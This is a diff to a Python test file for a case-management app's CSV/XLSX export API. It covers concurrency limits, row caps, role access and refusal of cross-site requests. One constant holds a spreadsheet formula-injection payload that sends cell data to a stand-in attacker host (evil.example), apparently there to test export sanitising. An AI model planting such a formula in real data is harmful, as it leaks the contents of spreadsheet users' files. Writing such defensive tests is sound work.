@@ -12,7 +12,8 @@ import re
 import zipfile
 from collections.abc import Iterator
 from dataclasses import dataclass
-from datetime import UTC, datetime, timedelta
+from datetime import UTC, date, datetime, timedelta
+from itertools import islice
 from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, unquote, urlsplit
@@ -25,7 +26,9 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from app import create_app
 from data_sources import db
+from data_sources.access import displays
 from data_sources.access.keys import add_key
+from data_sources.cases import export_stream, filters
 from data_sources.cases.filters import CaseFilter
 from data_sources.cases.query import CaseListItem, Sort, case_count, iter_cases
 from data_sources.directory import load_directory
@@ -39,7 +42,16 @@ from data_sources.workhours import CN_CALENDAR
 from layouts.i18n import t
 
 from .browser import Server
-from .conftest import AS_OF, BACKENDS, TZ, add_account, area, fresh_database_url, sign_in
+from .conftest import (
+    AS_OF,
+    BACKENDS,
+    CITY,
+    TZ,
+    add_account,
+    area,
+    fresh_database_url,
+    sign_in,
+)
 
 DISTRICT = "530126"  # 石林
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
@@ -64,6 +76,8 @@ class City:
     engine: Engine
     street_a: str
     street_b: str
+    #: An enrolled display of the district (an operator's: it may act, and still not export).
+    display_token: str
 
 
 @pytest.fixture(scope="module", params=BACKENDS)
@@ -113,8 +127,14 @@ def city(
         project(session, events, directory=directory, tz=TZ, calendar=CN_CALENDAR)
     add_account(url, "leader-d", "leader", DISTRICT)
     add_account(url, "leader-a", "leader", streets[0])
+    add_account(url, "operator-d", "operator", DISTRICT)
+    add_account(url, "admin-c", "admin", CITY)
+    with Session(engine) as session, session.begin():
+        display = displays.add_display(
+            session=session, name="wall-d", scope_code=DISTRICT, operator=True, now=AS_OF
+        )
     try:
-        yield City(url, engine, streets[0], streets[1])
+        yield City(url, engine, streets[0], streets[1], display)
     finally:
         engine.dispose()
 
@@ -188,7 +208,7 @@ def parse_csv(body: bytes) -> list[list[str]]:
 def test_the_csv_holds_the_tables_rows_for_the_same_filter(
     server: TestClient, city: City, query: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr("data_sources.cases.routes.EXPORT_PAGE", 97)  # many keyset pages
+    monkeypatch.setattr("data_sources.cases.export_stream.EXPORT_PAGE", 97)  # many keyset pages
     answer = as_user(server, "leader-d").get(f"/api/v1/export/cases.csv?{query}")
     assert answer.status_code == 200, answer.text
     assert answer.headers["content-type"] == "text/csv; charset=utf-8"
@@ -303,9 +323,16 @@ def test_an_export_is_audited_with_who_what_and_how_many_rows(
     assert '"sort":"-reported_at"' in line.detail and '"format":"csv"' in line.detail
 
 
-async def _read_until(app: Any, path: str, cookie: str, stop_after: int | None) -> tuple[int, int]:
+async def _read_until(
+    app: Any,
+    path: str,
+    cookie: str,
+    stop_after: int | None,
+    pause: tuple[anyio.Event, anyio.Event] | None = None,
+) -> tuple[int, int]:
     """Drive the app as uvicorn does (ASGI 2.3): read the answer's body, and after `stop_after`
-    chunks say the client hung up (`http.disconnect`). (status, body chunks read)."""
+    chunks say the client hung up (`http.disconnect`). (status, body chunks read). With
+    `pause` (reached, go): after those chunks, set `reached` and read nothing until `go`."""
     hung_up = anyio.Event()
     asked = False
     status, chunks = 0, 0
@@ -324,11 +351,20 @@ async def _read_until(app: Any, path: str, cookie: str, stop_after: int | None) 
             status = message["status"]
         elif message["type"] == "http.response.body" and message.get("body"):
             chunks += 1
-            if stop_after is not None and chunks >= stop_after:
+            if stop_after is not None and chunks >= stop_after and not hung_up.is_set():
+                if pause is not None:
+                    pause[0].set()
+                    await pause[1].wait()
                 hung_up.set()
 
-    path, _, query = path.partition("?")
-    scope = {
+    await app(_http_scope(path, cookie), receive, send)
+    return status, chunks
+
+
+def _http_scope(target: str, cookie: str) -> dict[str, Any]:
+    """A GET of `target` (path and query) as uvicorn hands it to the app (ASGI 2.3)."""
+    path, _, query = target.partition("?")
+    return {
         "type": "http",
         "asgi": {"version": "3.0", "spec_version": "2.3"},
         "http_version": "1.1",
@@ -343,8 +379,6 @@ async def _read_until(app: Any, path: str, cookie: str, stop_after: int | None) 
         "server": ("testserver", 80),
         "state": {},
     }
-    await app(scope, receive, send)
-    return status, chunks
 
 
 def test_a_client_leaving_mid_way_is_audited_as_aborted(server: TestClient, city: City) -> None:
@@ -420,6 +454,263 @@ def test_an_admin_key_exports_and_a_head_exports_nothing(server: TestClient, cit
     assert refused.status_code == 403
 
 
+# ---------------------------------------------------------------- limits, and who may export
+
+
+def cookie_of(client: TestClient) -> str:
+    return f"gridcc_session={client.cookies['gridcc_session']}"
+
+
+class Held:
+    """An export through raw ASGI whose client reads one chunk and then nothing until `leave`
+    (at the latest when the `with` block ends): it runs, holding its slot, until then."""
+
+    def __init__(
+        self, server: TestClient, who: str, path: str = "/api/v1/export/cases.csv"
+    ) -> None:
+        assert server.portal is not None
+        self.server, self.portal, self.who, self.path = server, server.portal, who, path
+
+    def __enter__(self) -> Held:
+        self.reached = self.portal.call(anyio.Event)
+        self.go = self.portal.call(anyio.Event)
+        cookie = cookie_of(as_user(self.server, self.who))
+        self.done = self.portal.start_task_soon(
+            _read_until, self.server.app, self.path, cookie, 1, (self.reached, self.go)
+        )
+        self.portal.call(self._started)
+        return self
+
+    async def _started(self) -> None:
+        with anyio.fail_after(30):
+            await self.reached.wait()  # its first chunk is out: it runs
+
+    def leave(self) -> tuple[int, int]:
+        """(its status, the chunks it read); once it has left, the same again."""
+        self.portal.call(self.go.set)
+        return self.done.result(timeout=30)
+
+    def __exit__(self, *_exc: object) -> None:
+        self.leave()
+
+
+def busy(answer: Any, reason: str) -> bool:
+    """A 429 saying when to come back and why."""
+    body = answer.json()
+    return (
+        answer.status_code == 429
+        and answer.headers["retry-after"] == str(export_stream.RETRY_AFTER_S)
+        and reason in body["detail"]
+        and body["retry_after_s"] == export_stream.RETRY_AFTER_S
+    )
+
+
+def test_one_export_at_a_time_per_reader_and_two_in_all_refused_before_any_query(
+    server: TestClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert export_stream.EXPORTS_PER_PROCESS == 2 and export_stream.EXPORTS_PER_PRINCIPAL == 1
+    started: list[str] = []
+    real_iter, real_count = export_stream.iter_cases, export_stream.case_count
+    monkeypatch.setattr(
+        export_stream, "iter_cases", lambda **kw: started.append("rows") or real_iter(**kw)
+    )
+    monkeypatch.setattr(
+        export_stream, "case_count", lambda **kw: started.append("count") or real_count(**kw)
+    )
+    leader_d, leader_a, operator = (
+        as_user(server, w) for w in ("leader-d", "leader-a", "operator-d")
+    )
+    mine = "an export of yours is still running"
+    with Held(server, "leader-a", "/api/v1/export/alarms.csv") as other:
+        with Held(server, "leader-d") as first:
+            before = list(started)
+            # The same reader (another session too), any table and format: refused, unqueried.
+            for path in ("cases.xlsx", "cases.csv", "alarms.csv", "workers.xlsx"):
+                assert busy(leader_d.get(f"/api/v1/export/{path}"), mine)
+            assert started == before
+            # Two readers' exports run side by side; a third's is one too many.
+            assert busy(leader_a.get("/api/v1/export/cases.csv"), mine)
+            assert busy(operator.get("/api/v1/export/cases.xlsx"), "2 exports are running")
+            # The case API has no such limit (it reads one case).
+            assert leader_d.get("/api/v1/cases/export-0").status_code == 200
+            # A client that leaves gives its slot back: the same reader exports again.
+            assert first.leave() == (200, 1)
+        assert leader_d.get("/api/v1/export/cases.xlsx?q=export-").status_code == 200
+        assert operator.get("/api/v1/export/workers.csv").status_code == 200
+        assert other.leave() == (200, 1)
+    # One read to its end gives it back as well (see also the test below).
+    answers = [leader_d.get("/api/v1/export/cases.csv?q=export-").status_code for _ in "12"]
+    assert answers == [200, 200]
+
+
+async def _again_at_the_end(app: Any, path: str, cookie: str) -> tuple[int, int]:
+    """An export read to its end where, as its last message arrives (before the client could
+    ask again), the same reader asks for another: (the first's status, the second's)."""
+    statuses = [0, 0]
+    asked, never = False, anyio.Event()
+
+    async def receive() -> dict[str, Any]:
+        nonlocal asked
+        if not asked:
+            asked = True
+            return {"type": "http.request", "body": b"", "more_body": False}
+        await never.wait()  # the client stays
+        raise AssertionError("unreachable")
+
+    async def send(message: dict[str, Any]) -> None:
+        if message["type"] == "http.response.start":
+            statuses[0] = message["status"]
+        elif message["type"] == "http.response.body" and not message.get("more_body"):
+            statuses[1] = (await _read_until(app, path, cookie, None))[0]
+
+    await app(_http_scope(path, cookie), receive, send)
+    return statuses[0], statuses[1]
+
+
+def test_an_export_read_to_its_end_frees_its_slot_before_the_end_is_seen(
+    server: TestClient,
+) -> None:
+    cookie = cookie_of(as_user(server, "leader-d"))
+    assert server.portal is not None
+    path = "/api/v1/export/cases.csv?q=export-"
+    assert server.portal.call(_again_at_the_end, server.app, path, cookie) == (200, 200)
+
+
+def test_an_export_that_fails_gives_its_slot_back(
+    server: TestClient, city: City, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    leader = TestClient(server.app, raise_server_exceptions=False)
+    sign_in(leader, "leader-d")
+
+    def broken(**kw: Any) -> Iterator[CaseListItem]:
+        yield from islice(iter_cases(**kw), 600)  # past the header and the first chunk
+        raise RuntimeError("the database went away")
+
+    monkeypatch.setattr(export_stream, "iter_cases", broken)
+    before = len(audits(city))
+    answer = leader.get("/api/v1/export/cases.csv?sort=id")
+    assert answer.status_code == 200  # the error came after the first byte: the file stops
+    assert audits(city)[before].outcome == "failed"
+    monkeypatch.undo()
+
+    def no_count(**_kw: Any) -> int:
+        raise RuntimeError("the count failed")
+
+    monkeypatch.setattr(export_stream, "case_count", no_count)  # before the first byte: a 500
+    assert leader.get("/api/v1/export/cases.xlsx").status_code == 500
+    monkeypatch.undo()
+    assert leader.get("/api/v1/export/cases.csv?q=export-").status_code == 200
+
+
+def test_an_xlsx_over_its_row_cap_is_refused_with_its_count_and_a_csv_is_not(
+    server: TestClient, city: City, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert export_stream.XLSX_MAX_ROWS == 200_000
+    rows = len(table_rows(city, FILTERS[1]))
+    leader = as_user(server, "leader-d")
+    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", rows - 1)
+    before = len(audits(city))
+    refused = leader.get(f"/api/v1/export/cases.xlsx?{FILTERS[1]}")
+    assert refused.status_code == 413, refused.text
+    body = refused.json()
+    assert (body["rows"], body["limit"]) == (rows, rows - 1)
+    assert f"{rows:,} rows" in body["detail"] and "CSV" in body["detail"]
+    assert len(audits(city)) == before  # refused before anything was exported
+    csv_rows = parse_csv(leader.get(f"/api/v1/export/cases.csv?{FILTERS[1]}").content)[1:]
+    assert len(csv_rows) == rows  # a CSV streams: no cap
+    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", rows)  # at the cap: exported
+    assert leader.get(f"/api/v1/export/cases.xlsx?{FILTERS[1]}").status_code == 200
+    # The alarm history and the worker list are counted as well.
+    monkeypatch.setattr(export_stream, "XLSX_MAX_ROWS", 0)
+    for table in ("alarms", "workers"):
+        listed = len(parse_csv(leader.get(f"/api/v1/export/{table}.csv").content)) - 1
+        answer = leader.get(f"/api/v1/export/{table}.xlsx")
+        assert listed > 0 and (answer.status_code, answer.json()["rows"]) == (413, listed)
+
+
+@pytest.mark.parametrize("path", ["cases.csv", "cases.xlsx", "alarms.csv", "workers.xlsx"])
+@pytest.mark.parametrize("dates", [("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")])
+@pytest.mark.parametrize("bounded", [True, False], ids=["bounded", "unbounded"])
+def test_dates_at_the_calendars_ends_are_a_400_not_a_broken_file(
+    server: TestClient,
+    path: str,
+    dates: tuple[str, str],
+    bounded: bool,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The filter takes dates of 2000..2100 only; were it to take any, the route would still
+    compute the range before the 200 (where the window overflowed once the file had begun)."""
+    if not bounded:
+        monkeypatch.setattr(filters, "FIRST_DAY", date.min)
+        monkeypatch.setattr(filters, "LAST_DAY", date.max)
+    query = f"period=custom&from={dates[0]}&to={dates[1]}"
+    answer = as_user(server, "leader-d").get(f"/api/v1/export/{path}?{query}")
+    assert answer.status_code == 400, answer.text
+    [problem] = answer.json()["detail"]
+    assert problem["loc"] in (["query", "from"], ["query", "to"]) and problem["msg"]
+
+
+@pytest.mark.parametrize("who", ["leader-d", "operator-d", "admin-c"])
+def test_signed_in_users_of_every_role_export(server: TestClient, who: str) -> None:
+    scope = f"?scope={DISTRICT}&q=export-"
+    client = as_user(server, who)
+    for path in ("cases.csv", "cases.xlsx", "alarms.csv", "workers.csv"):
+        assert client.get(f"/api/v1/export/{path}{scope}").status_code == 200
+
+
+def refused_export(client: TestClient) -> bool:
+    answers = [
+        client.get(f"/api/v1/export/{p}") for p in ("cases.csv", "alarms.xlsx", "workers.csv")
+    ]
+    return all(
+        (a.status_code, a.json()) == (403, {"detail": "exports need a signed-in account"})
+        for a in answers
+    )
+
+
+def test_a_display_reads_cases_but_exports_nothing(server: TestClient, city: City) -> None:
+    display = TestClient(server.app)
+    assert display.get(f"/display/{city.display_token}", follow_redirects=False).status_code == 303
+    assert display.get("/api/v1/cases/export-0").status_code == 200
+    assert refused_export(display)
+
+
+def test_an_anonymous_visitor_reads_cases_but_exports_nothing(city: City) -> None:
+    app = create_app(Settings(database_url=city.url, anonymous_scope=DISTRICT, simulate=False))
+    app.state.services.clock = lambda: AS_OF
+    with TestClient(app) as anonymous:
+        assert anonymous.get("/api/v1/cases/export-0").status_code == 200
+        assert refused_export(anonymous)
+
+
+@pytest.mark.parametrize(
+    ("headers", "status"),
+    [
+        ({"Sec-Fetch-Site": "cross-site"}, 403),
+        ({"Sec-Fetch-Site": "same-site"}, 403),  # a sibling host is another origin
+        ({"Origin": "http://evil.example"}, 403),
+        ({"Sec-Fetch-Site": "same-origin"}, 200),  # a link or a fetch of the app's own page
+        ({"Sec-Fetch-Site": "none"}, 200),  # typed in, a bookmark
+        ({"Sec-Fetch-Site": "same-origin", "Origin": "http://testserver"}, 200),
+        ({}, 200),  # a script
+    ],
+)
+def test_reads_asked_from_another_site_are_refused(
+    server: TestClient, headers: dict[str, str], status: int
+) -> None:
+    key = server.app.state.services.keys.add("bi", "admin", "t")  # type: ignore[attr-defined]
+    leader = as_user(server, "leader-d")
+    answers = [
+        leader.get("/api/v1/cases/export-0", headers=headers),
+        leader.get("/api/v1/export/cases.csv?q=export-", headers=headers),
+        leader.get("/api/v1/export/workers.xlsx", headers=headers),
+        server.get("/api/v1/cases/export-0", headers={"X-API-Key": key, **headers}),
+    ]
+    assert [a.status_code for a in answers] == [status] * 4
+    if status == 403:
+        assert all("may not read this here" in a.json()["detail"] for a in answers)
+
+
 # ---------------------------------------------------------------- memory stays flat
 
 
@@ -470,7 +761,7 @@ def add_cases(engine: Engine, first: int, last: int, now: datetime) -> None:
             rows = []
 
 
-def peak_growth(pid: int, base: str, path: str) -> tuple[int, int]:
+def peak_growth(pid: int, base: str, path: str, key: str) -> tuple[int, int]:
     """Export `path` from the server `pid`, reading it as a client does and keeping none of it;
     (its lines, how far the server's peak RSS rose above its RSS before, in bytes)."""
     status = Path(f"/proc/{pid}/status")
@@ -484,7 +775,7 @@ def peak_growth(pid: int, base: str, path: str) -> tuple[int, int]:
     url = urlsplit(base)
     connection = http.client.HTTPConnection(url.hostname or "", url.port, timeout=120)
     try:
-        connection.request("GET", path)
+        connection.request("GET", path, headers={"X-API-Key": key})
         response = connection.getresponse()
         assert response.status == 200
         lines = 0
@@ -508,16 +799,18 @@ def test_the_servers_memory_stays_flat_from_20_thousand_to_200_thousand_rows(
     seed_city(engine, seed=5, as_of=AS_OF, tz=TZ, districts=[DISTRICT], days=1, cases_per_day=50)
     now = datetime.now(UTC).replace(tzinfo=None)
     add_cases(engine, 0, 20_000, now)
+    with Session(engine) as session, session.begin():  # a script's: exports need no display
+        key = add_key(session=session, source="bi", role="admin", now=AS_OF, created_by="t")
     path = f"/api/v1/export/cases.csv?scope={DISTRICT}&category=noise&status=dispatched"
-    server = Server(url, GRIDCC_ANONYMOUS_SCOPE=DISTRICT, GRIDCC_SIMULATE="false")
+    server = Server(url, GRIDCC_SIMULATE="false")
     server.start()
     try:
         assert server.process is not None
         pid = server.process.pid
-        peak_growth(pid, server.base, path)  # warm: imports, pools, caches
-        lines_20k, growth_20k = peak_growth(pid, server.base, path)
+        peak_growth(pid, server.base, path, key)  # warm: imports, pools, caches
+        lines_20k, growth_20k = peak_growth(pid, server.base, path, key)
         add_cases(engine, 20_000, 200_000, now)
-        lines_200k, growth_200k = peak_growth(pid, server.base, path)
+        lines_200k, growth_200k = peak_growth(pid, server.base, path, key)
     finally:
         server.stop()
         engine.dispose()
